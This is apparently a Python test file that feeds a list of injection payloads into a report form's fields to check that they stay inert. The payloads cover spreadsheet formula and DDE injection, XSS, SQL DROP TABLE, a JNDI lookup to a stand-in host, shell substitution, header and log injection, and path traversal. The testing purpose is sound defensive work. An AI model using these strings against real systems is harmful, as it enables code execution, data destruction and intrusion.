"""Injection: texts that something further down could take for a formula, a link, a header, a path, SQL or HTML."""

from __future__ import annotations

from collections.abc import Callable

from tests.hostile.cases import PART, READ, REFUSED, STAYS_OUT, Case, case, spoilt
from tests.hostile.drafts import PER_CENT, Draft, text

NO_FIGURE = "rejected|held|nothing"
# What each means to do, and the text; every text holds the word `evil`, by which it is found again downstream.
PAYLOADS = {
    "a formula": "=evil(1)",
    "a formula that starts a program": "=cmd|' /C evil'!A0",
    "a plus": "+evil|' /C calc'!A0",
    "a minus": "-1+evil",
    "an at": "@SUM(evil)",
    "a tab and a formula": "\t=evil()",
    "a line and a formula": "\n=evil()",
    "a formula of full width": "\uff1devil()",
    "an array formula": "{=evil()}",
    "a link": "http://evil.example.org/x",
    "a link to a file": "file:///etc/evil",
    "a link to a share": "\\\\evil\\share",
    "a link to a mailbox": "mailto:evil@example.org?subject=x",
    "a link inside": "internal:'Evil evil'!A1",
    "a link without end": "https://evil.example.org/" + "x" * 3_000,
    "a script": "<script>evil()</script>",
    "a picture that runs": '"><img src=x onerror=evil()>',
    "a section that ends": "]]><evil/>",
    "SQL": "'; DROP TABLE runs; -- evil",
    "a template": "{{ evil.__class__ }} {% evil %}",
    "a format": "{0.__class__} {found} {evil} %s %(evil)s %n",
    "a look-up": "${jndi:ldap://evil.example.org/a}",
    "a shell": "$(evil) `evil` ; evil | evil && evil",
    "a header of a mail": "evil\r\nBcc: all@example.org\r\n\r\nHello",
    "a line of a log": "evil\n2009-11-16 00:00:00 INFO all is well",
    "an escape code": "_x001B_[31mevil",
    "a console's colours": "[bold red]evil[/]",
    "a path": "../../../../etc/evil",
    "a turned direction": "\u202eevil\u202c",
    "a CSV of its own": 'evil","15","Green"\r\n"NI 191","99',
}


def _in(field: str, words: str) -> Callable[[Draft], Draft]:
    return lambda draft: draft.put(field, PER_CENT, text(words))


def _plain(name: str) -> tuple[str, ...]:
    """Return the words that a message must not have: what an expanded template would leave."""
    return ("class 'str'", "<class") if name in ("a template", "a format") else ()


_VALUES = tuple(
    case("injection", f"{name} for an actual", spoilt(_in("actual", words)), PART, values={PER_CENT: NO_FIGURE},
         says_not=_plain(name))
    for name, words in PAYLOADS.items()
)  # fmt: skip
_COMMENTS = tuple(
    case("injection", f"{name} for a comment", spoilt(_in("comment", words)), READ, says_not=_plain(name))
    for name, words in PAYLOADS.items()
)
_RATINGS = tuple(
    case("injection", f"{name} for a RAG", spoilt(_in("rag", words)), READ, says_not=_plain(name))
    for name, words in PAYLOADS.items()
)
_REFERENCES = tuple(
    case("injection", f"{name} for a reference", spoilt(lambda draft, words=words: [
        _in("ref", words)(draft), _in("title", words)(draft)]), PART, values={PER_CENT: NO_FIGURE},
        says_not=_plain(name))
    for name, words in PAYLOADS.items()
)  # fmt: skip
_SENDERS = tuple(
    case("injection", f"{name} for a sender", spoilt(
        lambda draft, words=words: draft.cells.update({draft.form.sender_title: text(words)})),
        f"{READ}|{STAYS_OUT}|{REFUSED}", says_not=_plain(name))
    for name, words in PAYLOADS.items()
)  # fmt: skip


def _heading(words: str) -> Callable[[Draft], None]:
    return lambda draft: draft.cells.update({draft.form.rag_heading: text(words)})


_HEADINGS = tuple(
    case("injection", f"{name} for a heading", spoilt(_heading(words)), READ, says_not=_plain(name))
    for name, words in PAYLOADS.items()
    if len(words) < 300
)

CASES: tuple[Case, ...] = (*_VALUES, *_COMMENTS, *_REFERENCES, *_HEADINGS, *_SENDERS[:8], *_RATINGS[:8])
